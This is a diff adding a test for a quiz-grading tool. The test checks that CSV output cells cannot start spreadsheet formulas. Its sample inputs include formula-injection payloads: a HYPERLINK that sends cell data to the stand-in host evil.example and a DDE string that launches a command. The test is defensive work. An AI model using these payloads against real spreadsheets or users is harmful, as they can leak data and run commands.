@@ -69,3 +69,62 @@ def test_repeated_part_label_is_unparseable_and_listed(email_key: Path, tmp_path
     problems = [p for p in rows(out / "problems.csv") if p["kind"] == "malformed_answer"]
     assert [(p["row"], p["student_id"]) for p in problems] == [("3", "alan@example.edu")]
     assert "summary" in problems[0]["message"] and "part 2: 320" in problems[0]["data"]
+
+
+# --- item 11: no cell of a CSV output is a formula ---------------------------------------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+2",
+           "\r=1+2", "=3\x00+4"]
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_csv_output_cell_starts_a_formula(tmp_path: Path) -> None:
+    from fixtures.grading.answers import BANK, make_exam
+
+    from quizgen.exam import write_key
+    from quizgen.grading.write import OUTPUT_FILES
+
+    roster = tmp_path / "roster.csv"
+    with roster.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["student_id", "name"])
+        writer.writerow(["=1+1", "@evil =cmd"])
+        writer.writerow(["-7", "-Minus +Plus"])  # a numeric id stays a number
+        writer.writerow(["s3", "=HYPERLINK(\"x\")"])
+    key = tmp_path / "key.json"
+    write_key(make_exam(BANK, roster=roster), key)
+    responses = tmp_path / "responses.csv"
+    with responses.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["student_id", "conv-params", "conv-shape", "size", "formula"])
+        writer.writerow(["=1+1", HOSTILE[0], HOSTILE[1], "-5", HOSTILE[2]])
+        writer.writerow(["-7", HOSTILE[3], HOSTILE[4], HOSTILE[5], HOSTILE[6]])
+        writer.writerow(["s3", "18207", "-", "26", "=C_out*(K_h*K_w*C_in+1)"])
+        writer.writerow(["=2+2", "=unknown student", "", "", ""])
+        writer.writerow(["@s4\x00", "x", "", "", ""])
+    out = tmp_path / "out"
+    run_grade(key, responses, out, "--item", "=Quiz 1")
+    cells: dict[str, list[str]] = {}
+    for name in OUTPUT_FILES:
+        if not name.endswith(".csv"):
+            continue
+        text = (out / name).read_text(encoding="utf-8-sig")
+        assert "\x00" not in text, name
+        cells[name] = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+        for cell in cells[name]:
+            assert not cell.startswith(FORMULA_START) or is_number(cell), (name, cell)
+    assert len(cells) == 5
+    feedback = cells["feedback.csv"]
+    assert "'" + HOSTILE[0] in feedback and "'=3+4" in feedback  # kept, as text
+    assert "-5" in feedback and "-7" in feedback  # numbers stay numbers
+    assert "'=1+1" in cells["grades.csv"] and "'@evil =cmd" in cells["grades.csv"]
+    assert "'=2+2" in cells["problems.csv"] and "'@s4" in cells["problems.csv"]
+    assert "'=Quiz 1" in cells["moodle_grades.csv"] and "'=Quiz 1" in cells["canvas_grades.csv"]
